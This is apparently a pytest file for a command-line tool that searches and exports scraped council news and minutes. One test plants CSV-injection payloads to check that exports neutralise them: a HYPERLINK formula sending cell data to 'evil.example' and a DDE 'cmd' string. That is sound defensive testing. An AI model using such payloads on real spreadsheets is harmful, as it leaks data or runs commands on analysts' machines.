"""`radar search`: full text over titles and text, ranked, with snippets and tags."""

from __future__ import annotations

import json

from conftest import jsonl, run_radar


def test_search_finds_a_phrase_across_news_media_and_minutes(tagged):
    result = run_radar("search", '"section 114"', "--json", "--watchlist", str(tagged["watchlist"]))
    hits = jsonl(result.stdout)
    kinds = {hit["kind"] for hit in hits}
    assert {"news", "media", "minutes"} <= kinds
    assert all(hit["councils"][0]["name"] == "Sallowmere" for hit in hits)
    assert (
        "[section] [114]" in hits[0]["snippet"].lower()
        or "[section 114]" in hits[0]["snippet"].lower()
    )
    assert any("finance" in hit["factors"] for hit in hits)


def test_search_ranks_title_matches_first(tagged):
    result = run_radar(
        "search", "Kelderby Energy", "--json", "--watchlist", str(tagged["watchlist"])
    )
    hits = jsonl(result.stdout)
    assert "Kelderby Energy" in hits[0]["title"]


def test_search_table_output_for_people(tagged):
    result = run_radar("search", "peer challenge", "--watchlist", str(tagged["watchlist"]))
    assert "results for 'peer challenge'" in result.stdout
    assert "Brackenfold" in result.stdout


def test_bad_query_syntax_gives_a_message_not_a_traceback(tagged):
    result = run_radar("search", '"unclosed', "--watchlist", str(tagged["watchlist"]), check=False)
    assert result.returncode == 2
    assert "double quotes" in result.stderr
    assert "Traceback" not in result.stderr


def test_search_filters_narrow_the_results(tagged):
    def hits(*args: str) -> list[dict]:
        path = str(tagged["watchlist"])
        return jsonl(
            run_radar("search", "council", "--json", "-n", "200", *args, "-w", path).stdout
        )

    everything = hits()
    assert len(everything) > 20
    kelderby = hits("--council", "kelderby")
    assert kelderby and all("Kelderby" in [c["name"] for c in h["councils"]] for h in kelderby)
    assert hits("--council", "X08000001") == kelderby  # the GSS code works as well
    south_west = hits("--region", "south west")
    assert south_west and all(
        "South West" in [c["region"] for c in h["councils"]] for h in south_west
    )
    finance = hits("--factor", "finance")
    assert finance and all("finance" in h["factors"] for h in finance)
    negative = hits("--sentiment", "negative")
    assert negative and all(h["sentiment"] == "negative" for h in negative)
    minutes = hits("--source-kind", "moderngov")
    assert minutes and all(h["kind"] in ("minutes", "report") for h in minutes)
    assert all(h["kind"] == "media" for h in hits("--source-kind", "media"))
    dates = sorted(h["published"][:10] for h in everything if h["published"])
    middle = dates[len(dates) // 2]
    recent = hits("--since", middle)
    assert recent and all(h["published"][:10] >= middle for h in recent)
    older = hits("--until", middle)
    assert older and all(h["published"][:10] <= middle for h in older)
    assert len(recent) + len(older) >= len([d for d in dates])  # the day itself is in both
    both = hits("--council", "Kelderby", "--factor", "risky_change")
    assert both and set(h["id"] for h in both) <= set(h["id"] for h in kelderby)


def test_search_csv_and_bad_filters(tagged):
    path = str(tagged["watchlist"])
    result = run_radar("search", '"section 114"', "--csv", "-w", path)
    import csv
    import io

    table = list(csv.DictReader(io.StringIO(result.stdout)))
    assert table and table[0]["councils"] == "Sallowmere" and "[" in table[0]["snippet"]
    bad = run_radar("search", "x", "--factor", "money", "-w", path, check=False)
    assert bad.returncode == 2 and "Unknown factor" in bad.stderr
    bad = run_radar("search", "x", "--since", "last week", "-w", path, check=False)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    bad = run_radar("search", "section AND", "-w", path, check=False)
    assert bad.returncode == 2 and "double quotes" in bad.stderr


def test_export_round_trips_as_json_lines_and_csv(tagged, tmp_path):
    import csv

    from conftest import rows

    path = str(tagged["watchlist"])
    stored = {r["id"]: r for r in rows(tagged["db_path"], "select id, title, url from items")}
    jsonl_file, csv_file = tmp_path / "items.jsonl", tmp_path / "items.csv"
    run_radar("export", "--format", "jsonl", "-o", str(jsonl_file), "-w", path)
    exported = [json.loads(line) for line in jsonl_file.read_text(encoding="utf-8").splitlines()]
    assert {e["id"] for e in exported} == set(stored)  # every item, once
    for item in exported:
        assert item["title"] == stored[item["id"]]["title"]
        assert set(item["factors"]) == set(item["evidence"])
    s114 = [e for e in exported if "section 114" in (e["title"] or "").lower()]
    assert s114 and all("Sallowmere" in e["councils"] and "finance" in e["factors"] for e in s114)
    run_radar("export", "--format", "csv", "-o", str(csv_file), "-w", path)
    with csv_file.open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    by_id = {e["id"]: e for e in exported}
    assert len(table) == len(exported)
    for row in table:  # text with commas, quotes and newlines survives CSV
        assert row["text"] == (by_id[row["id"]]["text"] or "")
        assert row["factors"].split("; ") == (by_id[row["id"]]["factors"] or [""])
    dates = sorted(e["published"][:10] for e in exported if e["published"])
    since, until = dates[len(dates) // 3], dates[2 * len(dates) // 3]
    ranged = jsonl(run_radar("export", "--since", since, "--until", until, "-w", path).stdout)
    assert ranged and all(since <= e["published"][:10] <= until for e in ranged)


def test_csv_cells_a_spreadsheet_would_run_are_shown_as_text(tagged, tmp_path):
    """CSV injection (OWASP): a scraped title or text beginning = + - @ (or tab, CR) becomes
    a live formula when an analyst opens the CSV. Every CSV the product writes prefixes such a
    cell with an apostrophe; JSON Lines keep the text as it was scraped."""
    import csv
    import io
    import shutil

    import yaml

    from store import open_db

    shutil.copy(tagged["db_path"], tmp_path / "radar.db")
    data = yaml.safe_load(tagged["watchlist"].read_text(encoding="utf-8"))
    data.update(database=str(tmp_path / "radar.db"))
    path = tmp_path / "watchlist.yaml"
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    title = '=HYPERLINK("http://evil.example/?"&A1,"Section 114 update")'
    text = "@SUM(1+1) cmd|' /C calc'!A0 and the section 114 notice"
    db = open_db(tmp_path / "radar.db")
    with db.conn:
        (item_id,) = db.execute("select id from items order by id limit 1").fetchone()
        db.execute("update items set title = ?, text = ? where id = ?", [title, text, item_id])
    db.close()

    searched = run_radar("search", "HYPERLINK", "--csv", "-w", str(path)).stdout
    (hit,) = [row for row in csv.DictReader(io.StringIO(searched)) if "HYPERLINK" in row["title"]]
    assert hit["title"] == "'" + title

    out = tmp_path / "items.csv"
    run_radar("export", "--format", "csv", "-o", str(out), "-w", str(path))
    with out.open(encoding="utf-8", newline="") as handle:
        (row,) = [r for r in csv.DictReader(handle) if r["id"] == item_id]
    assert (row["title"], row["text"]) == ("'" + title, "'" + text)
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    exported = jsonl(run_radar("export", "--format", "jsonl", "-w", str(path)).stdout)
    (raw,) = [e for e in exported if e["id"] == item_id]
    assert (raw["title"], raw["text"]) == (title, text)


def test_search_says_when_it_ranked_only_the_newest_matches(tagged):
    """A query matching more items than --newest ranks the newest of them and says so, in
    the table and, beside JSON Lines, on stderr; --newest 0 ranks every match, silently."""
    path = str(tagged["watchlist"])
    table = run_radar("search", "council", "--newest", "3", "-w", path)
    assert "More than 3 items match: showing the best of the 3 stored most recently" in (
        " ".join(table.stdout.split())
    )
    lines = run_radar("search", "council", "--newest", "3", "--json", "-w", path)
    assert "More than 3 items match" in lines.stderr
    assert len(jsonl(lines.stdout)) == 3
    every = run_radar("search", "council", "--newest", "0", "--json", "-n", "200", "-w", path)
    assert "More than" not in every.stderr and len(jsonl(every.stdout)) > 3
